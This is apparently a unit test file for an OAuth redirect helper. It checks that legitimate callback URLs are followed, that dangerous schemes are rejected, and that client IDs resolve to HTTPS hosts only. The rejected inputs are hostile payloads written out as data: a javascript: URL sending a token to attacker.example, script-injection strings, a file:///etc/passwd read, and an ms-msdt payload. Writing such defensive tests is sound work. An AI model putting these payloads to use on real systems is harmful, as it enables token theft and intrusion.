import { clientIdHost, navigableRedirect } from '../src/lib/redirects';

describe('navigableRedirect', () => {
  test.each([
    ['https://client.example/cb?code=x&state=y', 'https://client.example/cb?code=x&state=y'],
    ['http://127.0.0.1:33418/callback?code=x', 'http://127.0.0.1:33418/callback?code=x'],
    ['com.example.app:/oauth?code=x', 'com.example.app:/oauth?code=x'],
  ])('%s is followed', (url, expected) => expect(navigableRedirect(url)).toBe(expected));

  test.each(['javascript:fetch(`//attacker.example/?t=`)//?error=access_denied', 'JavaScript:alert(1)', 'data:text/html,<script>x</script>', 'vbscript:msgbox', 'file:///etc/passwd', 'ms-msdt:/id PCWDiagnostic', 'not a url', ''])(
    '%s is never followed',
    (url) => expect(navigableRedirect(url)).toBeNull(),
  );
});

test('clientIdHost: the host of a metadata document URL only', () => {
  expect(clientIdHost('https://client.example/meta.json')).toBe('client.example');
  expect(clientIdHost('3f1c9a0e-1d2b-4c5d-8e9f-0a1b2c3d4e5f')).toBeNull();
  expect(clientIdHost('http://client.example/meta.json')).toBeNull();
});
